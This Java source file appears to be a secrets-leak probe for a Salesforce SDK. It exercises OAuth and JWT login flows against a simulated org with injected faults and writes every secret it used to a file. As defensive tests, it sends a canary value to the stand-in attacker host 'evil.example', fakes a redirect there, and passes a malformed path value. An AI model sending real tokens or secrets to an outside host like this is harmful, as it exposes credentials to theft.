package io.sfsdk.auth;

import io.sfsdk.error.SalesforceException;
import io.sfsdk.http.Bodies;
import io.sfsdk.http.HttpBody;
import io.sfsdk.http.HttpHeaders;
import io.sfsdk.http.HttpRequest;
import io.sfsdk.http.HttpTransport;
import io.sfsdk.http.JdkHttpTransport;
import io.sfsdk.http.LoggingTransport;
import io.sfsdk.http.RetryingTransport;
import io.sfsdk.http.UsageTrackingTransport;
import io.sfsdk.retry.RetryBudget;
import io.sfsdk.retry.RetryPolicy;
import io.sfsdk.testkit.OrgClock;
import io.sfsdk.testkit.RecordedRequest;
import io.sfsdk.testkit.SimulatedOrg;
import io.sfsdk.testkit.fault.Answers;
import io.sfsdk.testkit.fault.Breakages;
import io.sfsdk.testkit.fault.Fault;
import io.sfsdk.testkit.fault.Requests;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/** Lives through everything the wire can meet, with all logging on, and lists the secrets it used in a file. */
final class SecretsProbe {
    static final String FIELD_VALUE = "canary4711";
    private static final List<String> SECRETS = new ArrayList<>(List.of(FIELD_VALUE));

    private SecretsProbe() {}

    public static void main(String[] args) throws IOException {
        try (SimulatedOrg org = SimulatedOrg.builder().clock(OrgClock.running()).start();
                JdkHttpTransport jdk =
                        JdkHttpTransport.builder().allowPlainHttp(true).build()) {
            JwtBearer login = login(org, org.privateKeyPem());
            TokenSource remembered = wire -> remember(login.fetch(wire));
            HttpTransport wire = wire(jdk, remembered);
            for (Fault fault : faults()) {
                org.faults().clear();
                org.faults().on(Requests.post("/sobjects/Account")).times(2, fault);
                attempt(() -> create(wire, "/services/data/v66.0/sobjects/Account?x=" + FIELD_VALUE));
                org.faults().clear();
                org.faults().on(Requests.logins()).times(2, fault);
                org.expireSessions();
                attempt(() -> create(wire, "/services/data/v66.0/sobjects/Account"));
            }
            org.faults().clear();
            attempt(() -> create(wire, "https://evil.example/?x=" + FIELD_VALUE));
            attempt(() -> create(wire, "/ " + FIELD_VALUE.replace("c", "{c")));
            attempt(() -> login(org, otherKey()).fetch(jdk));
            faults().forEach(fault -> liveThroughOtherFlows(org, jdk, fault));
            attempt(() -> SigningKey.fromPem(org.privateKeyPem().replace("PRIVATE", "PUBLIC")));
            System.out.println(login + " " + remembered.fetch(jdk));
            org.requests().forEach(SecretsProbe::rememberAssertion);
            SECRETS.add(org.privateKeyPem().lines().skip(2).findFirst().orElseThrow());
        }
        Files.write(Path.of(args[0]), SECRETS);
    }

    /** Client credentials, consent, rotated refresh tokens, and what is asked about tokens; with {@code fault}, and well. */
    private static void liveThroughOtherFlows(SimulatedOrg org, HttpTransport jdk, Fault fault) {
        HttpTransport wire = new LoggingTransport(jdk);
        org.policies().login(policy -> policy.withRotatingRefreshTokens(true));
        TokenStore store = new InMemoryTokenStore();
        String consented = secret(org.refreshToken());
        IssuedTokens issued =
                new IssuedTokens(new AccessToken(secret("opaque-canary-old"), org.instanceUrl()), consented);
        issued.keepIn(store, "acme");
        RefreshToken refresh = RefreshToken.builder(org.clientId(), store, "acme")
                .clientSecret(secret(org.clientSecret()))
                .loginUrl(org.loginUrl().toString())
                .sleeper(pause -> {})
                .build();
        ClientCredentials credentials = ClientCredentials.builder(org.clientId(), org.clientSecret())
                .loginUrl(org.loginUrl().toString())
                .sleeper(pause -> {})
                .build();
        AuthorizationCode consent = AuthorizationCode.builder(org.clientId(), URI.create("http://localhost/back"))
                .clientSecret(org.clientSecret())
                .loginUrl(org.loginUrl().toString())
                .build();
        OAuthApi oauth = OAuthApi.at(org.loginUrl(), wire);
        attempt(() -> remember(refresh.fetch(wire)));
        attempt(() -> remember(refresh.fetch(wire)));
        store.load("acme").ifPresent(stored -> secret(StoredLogin.of(stored).refreshToken()));
        System.out.println(
                refresh + " " + credentials + " " + consent + " " + issued + " " + store + store.load("acme"));
        AccessToken token = remember(login(org, org.privateKeyPem()).fetch(jdk));
        org.faults().on(Requests.to("/services/oauth2")).times(6, fault);
        for (int i = 0; i < 2; i++) {
            attempt(() -> System.out.println(oauth.introspect(token.value(), org.clientId(), org.clientSecret())));
            attempt(() -> System.out.println(oauth.userInfo(token) + " " + oauth.identity(token)));
            attempt(() -> remember(credentials.fetch(wire)));
            attempt(() -> exchange(consent, wire));
            attempt(() -> remember(refresh.fetch(wire)));
            attempt(() -> oauth.revoke(token.value()));
            attempt(() -> oauth.userInfo(token));
            org.faults().clear();
        }
    }

    private static void exchange(AuthorizationCode consent, HttpTransport wire) {
        AuthorizationRequest begun = consent.begin();
        secret(begun.codeVerifier());
        System.out.println(begun);
        consent.exchange(
                wire, begun, URI.create("/back?code=" + secret("canary-code-4711") + "&state=" + begun.state()));
    }

    private static String secret(String value) {
        SECRETS.add(value);
        return value;
    }

    private static List<Fault> faults() {
        List<Fault> faults = new ArrayList<>(io.sfsdk.testkit.fault.Faults.passing());
        faults.add(Answers.redirect(302, "https://evil.example/"));
        faults.add(Answers.orgGone());
        faults.add(Answers.badOAuthToken());
        faults.add(Answers.oauth("invalid_grant", "invalid assertion"));
        faults.add(Breakages.badChunkSize());
        faults.add(Breakages.contentLengthTooLong());
        return faults;
    }

    private static HttpTransport wire(JdkHttpTransport jdk, TokenSource login) {
        HttpTransport logging = new LoggingTransport(jdk);
        HttpTransport tracking = new UsageTrackingTransport(logging, Clock.systemUTC());
        return new RetryingTransport(
                new AuthenticatingTransport(tracking, new CachingTokenSource(login, logging)),
                RetryPolicy.standard(),
                RetryBudget.standard(),
                Clock.systemUTC(),
                pause -> {},
                new SplittableRandom(1));
    }

    private static JwtBearer login(SimulatedOrg org, String pem) {
        return JwtBearer.builder(org.clientId(), org.username(), SigningKey.fromPem(pem))
                .loginUrl(org.loginUrl().toString())
                .sleeper(pause -> {})
                .build();
    }

    private static String otherKey() {
        return Keys.pem("PRIVATE KEY", Keys.rsa().getPrivate().getEncoded());
    }

    private static void create(HttpTransport wire, String target) {
        byte[] json = ("{\"Name\":\"" + FIELD_VALUE + "\"}").getBytes(StandardCharsets.UTF_8);
        HttpRequest request =
                new HttpRequest("POST", target, HttpHeaders.none(), HttpBody.json(json), true, Duration.ofSeconds(5));
        System.out.println(request + " " + Bodies.text(wire.send(request)).length());
    }

    private static void attempt(Runnable call) {
        try {
            call.run();
        } catch (SalesforceException | IllegalArgumentException e) {
            e.printStackTrace(System.out);
        }
    }

    private static AccessToken remember(AccessToken token) {
        SECRETS.add(token.value());
        return token;
    }

    private static void rememberAssertion(RecordedRequest request) {
        String body = new String(request.body(), StandardCharsets.UTF_8);
        int at = body.indexOf("assertion=");
        if (at >= 0) {
            SECRETS.add(body.substring(body.lastIndexOf('.') + 1));
        }
    }
}
